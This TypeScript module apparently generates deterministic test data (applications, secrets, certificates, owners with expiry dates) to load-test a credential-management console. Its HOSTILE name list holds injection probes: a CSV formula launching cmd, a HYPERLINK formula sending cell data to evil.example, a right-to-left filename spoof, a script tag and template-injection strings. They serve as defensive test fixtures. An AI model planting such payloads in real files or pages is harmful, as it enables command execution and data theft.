import { type Dice, dice, digits } from './dice'
import type { Owner, Registered, RegisteredKey, RegisteredPassword } from './registration'
import type { Fill } from './world'

/** The size of a large tenant, which the console must support. */
export const FILL_SIZE = { applications: 20_000, credentials: 45_000 } as const

const DAY_MS = 24 * 60 * 60 * 1000
const FAR = new Date('2299-12-30T12:00:00Z')
const USERS = 210
const MOST_OWNERS = 3
const HINT = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789~._-'
const LONGEST_NAME = 256

const WORK = [
  'Invoice',
  'Payroll',
  'Scanner',
  'Backup',
  'Intranet',
  'Ticket',
  'Badge',
  'Archive',
  'Monitoring',
  'Fleet',
]
const THING = ['mailer', 'export', 'connector', 'sync', 'bot', 'report', 'gateway', 'importer']
/** Hostile and unusual names. */
const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\u202Egpj.exe\u202C',
  `"double", 'single', “typographic” and \`back-tick\``,
  '<script>alert(1)</script>&amp;',
  'Very long name '.repeat(20).slice(0, LONGEST_NAME),
  'tab\tand line\nbreak',
  'ünïcödé 測試 🔑 e\u0301',
  '  spaces around  ',
  '{{ 7*7 }} #{7*7} %s %00',
]

const of = ({ seed }: Fill, ...seeds: (string | number)[]): Dice => dice(seed, ...seeds)
const pick = <T>(list: readonly T[], number: number): T => list[number % list.length] as T
const days = (at: Date, count: number): Date => new Date(at.getTime() + count * DAY_MS)

const maskOf = (fill: Fill, kind: string): number => of(fill, 'mask', kind)(2 ** 32)

/** Looks random, but its last eight digits encode the index, so that an application is found without a list. */
function idOf(fill: Fill, kind: string, index: number): string {
  const hex = digits(of(fill, kind, index), 22)
  const last = ((index ^ maskOf(fill, kind)) >>> 0).toString(16).padStart(8, '0')
  return `${hex.slice(0, 8)}-${hex.slice(8, 12)}-4${hex.slice(12, 15)}-a${hex.slice(15, 18)}-${hex.slice(18)}${last}`
}

/** The generated application with this `appId` or object `id`. */
export function filledApplication(fill: Fill, kind: 'appId' | 'id', value: string): Registered | undefined {
  const index = (Number.parseInt(value.slice(-8), 16) ^ maskOf(fill, kind)) >>> 0
  return index < fill.applications && idOf(fill, kind, index) === value.toLowerCase()
    ? filledAt(fill, index)
    : undefined
}

/** Two neighbours share a fixed number of credentials, so that the total is exact without counting. */
function credentialCount(fill: Fill, index: number): number {
  const pairs = Math.ceil(fill.applications / 2)
  const pair = Math.floor(index / 2)
  const share = Math.floor(((pair + 1) * fill.credentials) / pairs) - Math.floor((pair * fill.credentials) / pairs)
  const alone = pair * 2 + 1 >= fill.applications
  const first = alone ? share : of(fill, 'share', pair)(share + 1)
  return index % 2 === 0 ? first : share - first
}

/** Of a hundred, 27 have expired, 13 expire within 30 days, 10 within 60, 2 almost never, and the rest within two years. */
function lifeOf({ at }: Fill, throws: Dice): { startsAt: Date; expiresAt: Date } {
  const state = throws(100)
  const part = throws(10_000) / 10_000
  if (state >= 98) return { startsAt: days(at, -part * 900), expiresAt: FAR }
  const expiresAt = days(at, daysLeft(state, part))
  return { startsAt: days(expiresAt, -pick([90, 180, 365, 730], throws(4))), expiresAt }
}

/** @param state from 0 to 97 @param part from 0 to 1, the place within the range of the state */
function daysLeft(state: number, part: number): number {
  if (state < 27) return -1 - part * 900
  if (state < 40) return part * 30
  return state < 50 ? 30 + part * 30 : 61 + part * 669
}

function nameOf(throws: Dice, index: number): string {
  if (throws(20) === 0) return pick(HOSTILE, throws(HOSTILE.length))
  return `${pick(WORK, throws(WORK.length))} ${pick(THING, throws(THING.length))} ${index + 1}`
}

/** The owners of one application are all different. */
function ownerOf(fill: Fill, throws: Dice, at: number): Owner {
  const number = (throws(USERS / MOST_OWNERS) + (at * USERS) / MOST_OWNERS) % USERS
  const displayName = number % 25 === 0 ? pick(HOSTILE, number / 25) : `Team ${number + 1}`
  if (throws(10) === 0) {
    return {
      kind: 'servicePrincipal',
      id: idOf(fill, 'principal', number),
      displayName,
      appId: idOf(fill, 'app', number),
    }
  }
  const userPrincipalName = `team${number + 1}@contoso.example`
  return { kind: 'user', id: idOf(fill, 'user', number), displayName, userPrincipalName }
}

/** The generated application number `index`, always the same. */
export function filledAt(fill: Fill, index: number): Registered {
  const throws = of(fill, 'application', index)
  const passwords: RegisteredPassword[] = []
  const keys: RegisteredKey[] = []
  const count = credentialCount(fill, index)
  for (let at = 0; at < count; at += 1) {
    const displayName = throws(4) === 0 ? null : nameOf(throws, at)
    const common = { keyId: idOf(fill, `credential ${at}`, index), displayName, ...lifeOf(fill, throws) }
    if (throws(6) === 0) keys.push({ ...common, thumbprint: digits(throws, 40).toUpperCase(), key: null })
    else passwords.push({ ...common, hint: digits(throws, 3, HINT) })
  }
  return {
    id: idOf(fill, 'id', index),
    appId: idOf(fill, 'appId', index),
    displayName: nameOf(throws, index),
    createdAt: days(fill.at, -1 - throws(1500)),
    passwords,
    keys,
    owners: Array.from({ length: throws(MOST_OWNERS + 1) }, (_, at) => ownerOf(fill, throws, at)),
  }
}

function rangeOf(daysLeft: number) {
  if (daysLeft <= 0) return 'expired'
  if (daysLeft <= 30) return 'within30Days'
  return daysLeft <= 60 ? 'within60Days' : 'later'
}

/** Counts the credentials of a fill by going through its applications. */
export function fillSummary(fill: Fill): Record<string, number | string> {
  const counts = {
    secrets: 0,
    certificates: 0,
    expired: 0,
    within30Days: 0,
    within60Days: 0,
    later: 0,
    withoutOwner: 0,
  }
  for (let index = 0; index < fill.applications; index += 1) {
    const { passwords, keys, owners } = filledAt(fill, index)
    counts.secrets += passwords.length
    counts.certificates += keys.length
    if (owners.length === 0) counts.withoutOwner += 1
    for (const { expiresAt } of [...passwords, ...keys]) {
      const left = (expiresAt.getTime() - fill.at.getTime()) / DAY_MS
      counts[rangeOf(left)] += 1
    }
  }
  return { applications: fill.applications, at: fill.at.toISOString(), seed: fill.seed, ...counts }
}
